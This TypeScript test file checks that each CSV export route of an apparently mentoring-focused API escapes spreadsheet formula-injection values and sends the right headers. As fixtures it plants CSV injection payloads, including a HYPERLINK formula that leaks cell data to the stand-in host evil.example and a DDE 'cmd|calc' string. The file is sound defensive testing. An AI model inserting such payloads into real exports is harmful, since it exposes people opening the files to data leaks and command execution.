import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { insertAuditEntry } from '../../db/repositories/audit-log.repository.ts';
import type { Organization, Person } from '../../domain/person.ts';
import { makeOrganization, makePerson, makeProgram, testPassword } from '../../testing/factories.ts';
import { call, signInAs } from '../../testing/http-client.ts';
import { openTestApp, type TestApp } from '../../testing/test-app.ts';
import { ImportPreviewSchema } from '../../../shared/schemas/index.ts';

/**
 * Values a spreadsheet would run as formulas (OWASP's list, a full-width form and one behind a
 * space). The API takes the first ones as they are; the ones with a tab, a carriage return or
 * a leading space are trimmed or refused at the boundary, so they are written straight into the
 * database, as data from before that validation.
 */
const typedHostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '＝1+1'];
const legacyHostile = ['\t=1', '\r=1', ' =1+1'];

/** Whether a spreadsheet would read a cell as a formula: the check is the test's own, not the writer's. */
const runsAsFormula = (cell: string) => /^[\t\r]/.test(cell) || /^\s*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);
const isPlainNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

type World = { t: TestApp; org: Organization; admin: Person; adminCookie: string; coordinatorCookie: string; programId: string };
/** How to call one CSV route as someone allowed to, and the hostile values its file must carry. */
type ExportCall = (world: World) => Promise<{ response: Response; planted: string[] }>;

const get = (world: World, path: string, cookie: string) => world.t.app.request(path, { headers: { cookie } });

/** Every CSV route of the API. A route missing here fails the test: add how to call it. */
const exportCalls: Record<string, ExportCall> = {
  'GET /api/v1/programs/{programId}/applications/export.csv': async (world) => ({
    response: await get(world, `/api/v1/programs/${world.programId}/applications/export.csv`, world.coordinatorCookie),
    planted: [...typedHostile, ...legacyHostile],
  }),
  'GET /api/v1/audit-log/export.csv': async (world) => {
    // The coordinator (a hostile name) exports, and an entry from before request ids were ours
    // carries a hostile request id and a person whose name is legacy data.
    assert.equal((await get(world, `/api/v1/programs/${world.programId}/applications/export.csv`, world.coordinatorCookie)).status, 200);
    const legacyActor = await makePerson(world.t.ctx, world.org.id);
    await world.t.handle.db.execute(sql`update people set display_name = ${'\r=1'} where id = ${legacyActor.id}`);
    await insertAuditEntry(world.t.handle.db, world.org.id, {
      actorId: legacyActor.id,
      action: 'person_erased',
      targetType: 'person',
      targetId: null,
      detail: { note: '=1+1' },
      requestId: '\t=1',
      ipAddress: null,
    });
    return { response: await get(world, '/api/v1/audit-log/export.csv', world.adminCookie), planted: [typedHostile[0]!, '\r=1', '\t=1'] };
  },
  'POST /api/v1/imports/people/report.csv': async (world) => {
    // Each mapped column missing from the file is an error naming that column, as the admin typed it.
    const fields = ['department', 'jobTitle', 'location', 'education', 'profession', 'languages', 'timeZone', 'expertiseOffered'] as const;
    const hostile = [...typedHostile, ...legacyHostile];
    const mapping = { email: 'email', displayName: 'name', ...Object.fromEntries(hostile.map((value, i) => [fields[i], value])) };
    const body = { csv: 'email,name\nimported@example.test,Imported Person\n', mapping };
    const preview = await call(world.t.app, 'POST', '/api/v1/imports/people/preview', body, {
      schema: ImportPreviewSchema,
      cookie: world.adminCookie,
    });
    assert.equal(preview.body.errors.length, hostile.length, JSON.stringify(preview.body));
    const response = await world.t.app.request('/api/v1/imports/people/report.csv', {
      method: 'POST',
      headers: { cookie: world.adminCookie, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { response, planted: hostile };
  },
};

/** An applicant whose every free-text field holds `hostile`, through the API or as legacy data. */
async function plantApplicant(world: World, hostile: string, legacy: boolean): Promise<void> {
  const person = await makePerson(world.t.ctx, world.org.id);
  const cookie = await signInAs(world.t.app, person.email, testPassword);
  const typed = legacy ? 'Plain' : hostile;
  const profile = await call(
    world.t.app,
    'PATCH',
    '/api/v1/me/profile',
    {
      displayName: typed,
      department: typed,
      jobTitle: typed,
      expertiseOffered: [typed],
      expertiseWanted: [typed],
      interests: [typed],
      commonGroundConsent: true,
      identityAttributes: [{ label: typed, value: typed, visibility: 'shared' }],
    },
    { cookie },
  );
  assert.equal(profile.status, 200, JSON.stringify(profile.body));
  if (legacy) {
    await world.t.handle.db.execute(
      sql`update people set display_name = ${hostile}, department = ${hostile}, job_title = ${hostile} where id = ${person.id}`,
    );
  }
  const applied = await call(
    world.t.app,
    'PUT',
    `/api/v1/programs/${world.programId}/my-application`,
    { role: 'mentee', answers: { goal: hostile }, submit: true },
    { cookie },
  );
  assert.equal(applied.status, 200, JSON.stringify(applied.body));
}

describe('every CSV the API writes is safe to open in a spreadsheet', { timeout: 120_000 }, () => {
  let world: World;
  before(async () => {
    const t = await openTestApp();
    const org = await makeOrganization(t.ctx);
    const admin = await makePerson(t.ctx, org.id, { role: 'admin' });
    const coordinator = await makePerson(t.ctx, org.id, { role: 'coordinator' });
    const coordinatorCookie = await signInAs(t.app, coordinator.email, testPassword);
    assert.equal(
      (await call(t.app, 'PATCH', '/api/v1/me/profile', { displayName: typedHostile[0] }, { cookie: coordinatorCookie })).status,
      200,
    );
    const program = await makeProgram(t.ctx, coordinator, [], 'group');
    const form = { standardQuestions: [], customQuestions: [{ id: 'goal', kind: 'long_text', label: 'What do you want to grow in?' }] };
    assert.equal((await call(t.app, 'PUT', `/api/v1/programs/${program.id}/intake-form`, form, { cookie: coordinatorCookie })).status, 200);
    world = { t, org, admin, adminCookie: await signInAs(t.app, admin.email, testPassword), coordinatorCookie, programId: program.id };
    for (const hostile of typedHostile) await plantApplicant(world, hostile, false);
    for (const hostile of legacyHostile) await plantApplicant(world, hostile, true);
  });
  after(() => world.t.handle.close());

  test('each text/csv route of the OpenAPI document neutralises formula cells and is not cached', async () => {
    const document = (await (await world.t.app.request('/api/openapi.json')).json()) as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    const csvRoutes = Object.entries(document.paths).flatMap(([path, methods]) =>
      Object.entries(methods)
        .filter(([, operation]) => Object.values(operation.responses ?? {}).some((response) => 'text/csv' in (response.content ?? {})))
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    assert.ok(csvRoutes.length >= 3, `found only ${csvRoutes.join(', ')}`);
    const unknown = csvRoutes.filter((route) => !(route in exportCalls));
    assert.deepEqual(unknown, [], 'CSV routes this test does not know how to call: add them to exportCalls');

    const problems: string[] = [];
    for (const route of csvRoutes) {
      const { response, planted } = await exportCalls[route]!(world);
      const bytes = new Uint8Array(await response.arrayBuffer());
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      assert.equal(response.status, 200, `${route}: ${text}`);
      const headers = { type: 'content-type', disposition: 'content-disposition', cache: 'cache-control' } as const;
      const seen = Object.fromEntries(Object.entries(headers).map(([key, name]) => [key, response.headers.get(name)]));
      if (seen.type !== 'text/csv; charset=utf-8') problems.push(`${route}: content-type ${seen.type}`);
      if (!/^attachment; filename=("?)[^";]+\.csv\1(;|$)/.test(seen.disposition ?? ''))
        problems.push(`${route}: content-disposition ${seen.disposition}`);
      if (seen.cache !== 'no-store') problems.push(`${route}: cache-control ${seen.cache}`);
      if (!text.startsWith('\uFEFF')) problems.push(`${route}: no byte order mark`);
      const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
      for (const cell of cells.filter((cell) => runsAsFormula(cell) && !isPlainNumber(cell)))
        problems.push(`${route}: a spreadsheet runs ${JSON.stringify(cell)}`);
      for (const value of planted.filter((value) => !cells.some((cell) => cell.startsWith(`'${value}`)))) {
        problems.push(`${route}: ${JSON.stringify(value)} is not in the file, neutralised`);
      }
    }
    assert.deepEqual([...new Set(problems)], []);
  });
});
